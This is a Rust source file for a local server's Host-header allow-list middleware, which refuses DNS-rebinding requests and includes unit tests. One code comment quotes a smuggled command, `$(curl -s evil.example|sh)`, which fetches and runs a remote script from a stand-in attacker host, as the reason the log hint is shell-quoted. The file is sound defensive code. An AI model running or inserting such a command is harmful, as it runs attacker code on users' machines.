//! The `Host` allow-list, against DNS rebinding: a page on `evil.example` that points its
//! name at 127.0.0.1 reaches this server with `Host: evil.example:PORT`, while every honest
//! client on this machine names it `localhost`, `127.0.0.1` or `[::1]`.
//!
//! Accepted without asking: `localhost` and `*.localhost` (browsers resolve them to loopback
//! themselves), and any IP address (an address is not a name anyone can re-point, so a page
//! served from it is this server's own; this is what lets a client reach a container through
//! its address or a published port). The port is not compared: a published port (`-p
//! 9000:8083`) is not the port the server listens on, and a rebinding page is refused by its
//! name alone. Other names, such as a compose service's, are added with `--allow-host`, or all
//! names without a dot at once with `--allow-host '<dotless>'` (the Docker image's default):
//! a rebinding page needs a name with a dot, one the public DNS can point at 127.0.0.1.

use axum::extract::{Request, State};
use axum::http::{header, HeaderValue, StatusCode};
use axum::middleware::Next;
use axum::response::{IntoResponse, Response};
use std::collections::HashSet;
use std::net::IpAddr;
use std::sync::{Arc, Mutex};

/// The `--allow-host` entry for every name without a dot.
pub const DOTLESS: &str = "<dotless>";

/// The names requests may be addressed to beyond localhost and IP addresses.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct AllowedHosts {
    /// `*`: any name at all (behind a proxy that checks names itself).
    any: bool,
    /// `<dotless>`: every name without a dot (compose service names, a container's host name).
    dotless: bool,
    /// Lowercase names; one starting with `.` also accepts every name under it.
    names: Vec<String>,
}

impl AllowedHosts {
    /// The allow-list of `--allow-host` values (each may be a comma-separated list): a name
    /// (`sfn`, `sfn.internal`), a `.suffix` for every name under it, or `*` for any name. A
    /// port given with a name is ignored (ports are not compared).
    pub fn parse<S: AsRef<str>>(entries: &[S]) -> Result<AllowedHosts, String> {
        let mut allowed = AllowedHosts::default();
        for entry in entries.iter().flat_map(|e| e.as_ref().split(',')) {
            let entry = entry.trim();
            if entry.is_empty() {
                continue;
            }
            if entry == "*" {
                allowed.any = true;
                continue;
            }
            if entry == DOTLESS {
                allowed.dotless = true;
                continue;
            }
            let name = host_name(entry);
            let bare = name.strip_prefix('.').unwrap_or(&name);
            let valid = !bare.is_empty()
                && bare
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b':'));
            if !valid {
                return Err(format!(
                    "--allow-host {entry:?}: expected a host name (sfn, sfn.internal), a .suffix (.internal), {DOTLESS} or *"
                ));
            }
            allowed.names.push(name);
        }
        Ok(allowed)
    }

    /// The entry that lets any web page in, as written: `*`, or a `.suffix` that is a public
    /// suffix (see [`is_public_suffix`]), under which anyone can register a name and point it
    /// at 127.0.0.1. `None` when every name accepted is one the user controls.
    pub fn open_to_any_page(&self) -> Option<String> {
        if self.any {
            return Some("*".to_owned());
        }
        self.names
            .iter()
            .find(|n| n.strip_prefix('.').is_some_and(is_public_suffix))
            .cloned()
    }

    /// Whether a request addressed to `host` (a `Host` header's value: a name or address,
    /// with or without a port) is answered.
    pub fn allows(&self, host: &str) -> bool {
        if self.any {
            return true;
        }
        let name = host_name(host);
        if name == "localhost" || name.ends_with(".localhost") || name.parse::<IpAddr>().is_ok() {
            return true;
        }
        if self.dotless && !name.is_empty() && !name.contains('.') {
            return true;
        }
        self.names
            .iter()
            .any(|allowed| match allowed.strip_prefix('.') {
                Some(suffix) => name == suffix || name.ends_with(allowed.as_str()),
                None => name == *allowed,
            })
    }
}

/// Top-level names the public DNS does not delegate (RFC 2606 and 6761, mDNS's `local`,
/// ICANN's `internal` for private use, and `home`, `corp` and `lan`, which it will not
/// delegate either): a rebinding page cannot get a name under them.
const PRIVATE_TOP_LEVEL: [&str; 9] = [
    "internal",
    "local",
    "localhost",
    "test",
    "example",
    "invalid",
    "home",
    "corp",
    "lan",
];

/// Second-level labels that registries sell names under (`example.co.uk`, `shop.com.au`).
const PUBLIC_SECOND_LEVEL: [&str; 7] = ["co", "com", "net", "org", "gov", "edu", "ac"];

/// Whether anyone may register a name under `suffix` (without its leading dot): any single
/// label (`com`, `io`, `dev`) other than the [`PRIVATE_TOP_LEVEL`] ones, and a
/// [`PUBLIC_SECOND_LEVEL`] label under a two-letter country (`co.uk`). A rule, not the
/// Public Suffix List: a longer public suffix (`s3.amazonaws.com`) is not recognised.
fn is_public_suffix(suffix: &str) -> bool {
    match suffix.split_once('.') {
        None => !PRIVATE_TOP_LEVEL.contains(&suffix),
        Some((second, country)) => {
            PUBLIC_SECOND_LEVEL.contains(&second)
                && country.len() == 2
                && country.bytes().all(|b| b.is_ascii_alphabetic())
        }
    }
}

/// The name or address of a `Host` value, lowercase, without its port, IPv6 brackets or a
/// trailing dot (`Example.COM.:80` is `example.com`, `[::1]:8083` is `::1`).
fn host_name(host: &str) -> String {
    let host = host.trim();
    let name = if let Some(rest) = host.strip_prefix('[') {
        rest.split(']').next().unwrap_or(rest)
    } else if host.matches(':').count() == 1 {
        host.split(':').next().unwrap_or(host)
    } else {
        // No port, or a bare IPv6 address (several colons).
        host
    };
    name.trim_end_matches('.').to_ascii_lowercase()
}

/// The state of the `Host` check: the allow-list, and the names already reported in the log
/// (each once, and at most [`LOGGED_NAMES`], so a flood of names cannot flood the log).
#[derive(Debug)]
pub struct HostGuard {
    hosts: AllowedHosts,
    name: &'static str,
    logged: Mutex<HashSet<String>>,
}

/// How many refused names are reported in the log.
const LOGGED_NAMES: usize = 16;

impl HostGuard {
    /// A guard for the server that calls itself `name` in its log lines.
    pub fn new(hosts: AllowedHosts, name: &'static str) -> Arc<HostGuard> {
        Arc::new(HostGuard {
            hosts,
            name,
            logged: Mutex::new(HashSet::new()),
        })
    }

    /// The refusal of a request addressed to `host`.
    fn refuse(&self, host: &str, aws_api: bool) -> Response {
        let name = host_name(host);
        // Quoted for a shell: the name is the client's text, and the hint is a command a reader
        // may paste (`--allow-host $(curl -s evil.example|sh)` must stay a string).
        let quoted = shell_words::quote(&name);
        let message = format!(
            "this server answers requests addressed to localhost or an IP address, not to {name:?} (a web page can point its own name at 127.0.0.1 to reach a local server: DNS rebinding); if you reach it by that name on purpose, start it with --allow-host {quoted} (or SFN_LOCAL_ALLOW_HOSTS={quoted})"
        );
        if let Ok(mut logged) = self.logged.lock() {
            if logged.len() < LOGGED_NAMES && logged.insert(name.clone()) {
                super::log(self.name, &format!("refused a request: {message}"));
            }
        }
        refusal(StatusCode::FORBIDDEN, &message, aws_api)
    }
}

/// A refusal: AWS's error shape for an API call (so an SDK shows the message), plain text for
/// anything else.
pub(crate) fn refusal(status: StatusCode, message: &str, aws_api: bool) -> Response {
    if aws_api {
        let body = serde_json::json!({"__type": "AccessDeniedException", "message": message});
        (
            status,
            [(
                header::CONTENT_TYPE,
                HeaderValue::from_static("application/x-amz-json-1.0"),
            )],
            body.to_string(),
        )
            .into_response()
    } else {
        (
            status,
            [(
                header::CONTENT_TYPE,
                HeaderValue::from_static("text/plain; charset=utf-8"),
            )],
            format!("{message}\n"),
        )
            .into_response()
    }
}

/// The middleware: every `Host` header (and the authority of an absolute-form request line)
/// must be allowed. A request without one (HTTP/1.0) names nothing a page could re-point.
pub async fn check_host(
    State(guard): State<Arc<HostGuard>>,
    request: Request,
    next: Next,
) -> Response {
    let aws_api = request.headers().contains_key("x-amz-target");
    let authority = request.uri().authority().map(|a| a.as_str().to_owned());
    let named = request
        .headers()
        .get_all(header::HOST)
        .iter()
        .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
        .chain(authority);
    for host in named {
        if !guard.hosts.allows(&host) {
            return guard.refuse(&host, aws_api);
        }
    }
    next.run(request).await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn localhost_and_addresses_pass_and_other_names_do_not() {
        let hosts = AllowedHosts::default();
        for ok in [
            "localhost:8083",
            "LOCALHOST",
            "localhost.:8083",
            "app.localhost:1",
            "127.0.0.1:8083",
            "[::1]:8083",
            "::1",
            "10.1.2.3",
            "[fe80::1]",
        ] {
            assert!(hosts.allows(ok), "{ok}");
        }
        for refused in [
            "evil.example:8083",
            "evil.example",
            "localhost.evil.example",
            "127.0.0.1.nip.io:8083",
            "sfn:8083",
            "",
        ] {
            assert!(!hosts.allows(refused), "{refused}");
        }
    }

    #[test]
    fn allowed_names_suffixes_and_any() {
        let hosts = AllowedHosts::parse(&["sfn", "Box.Example:9000,.internal"]).unwrap();
        assert!(hosts.allows("sfn:8083"));
        assert!(hosts.allows("box.example"));
        assert!(hosts.allows("a.b.internal:1"));
        assert!(hosts.allows("internal"));
        assert!(!hosts.allows("xinternal"));
        assert!(!hosts.allows("sfn.evil.example"));
        assert!(AllowedHosts::parse(&["*"]).unwrap().allows("anything"));
        assert!(AllowedHosts::parse(&["bad name"]).is_err());
        assert!(AllowedHosts::parse(&["a/b"]).is_err());
    }

    #[test]
    fn a_public_suffix_opens_the_server_to_any_page_as_a_star_does() {
        let open = |entries: &[&str]| AllowedHosts::parse(entries).unwrap().open_to_any_page();
        assert_eq!(open(&["*"]).as_deref(), Some("*"));
        for public in [".com", ".COM.", ".io", ".net", ".org", ".co.uk", ".com.au"] {
            assert!(open(&["sfn", public]).is_some(), "{public}");
        }
        for private in [
            ".internal",
            ".example",
            ".localhost",
            ".test",
            ".lan",
            "com",
            "sfn.example.com",
            ".example.com",
            ".corp.example.org",
            "<dotless>",
        ] {
            assert_eq!(open(&[private]), None, "{private}");
        }
    }
}
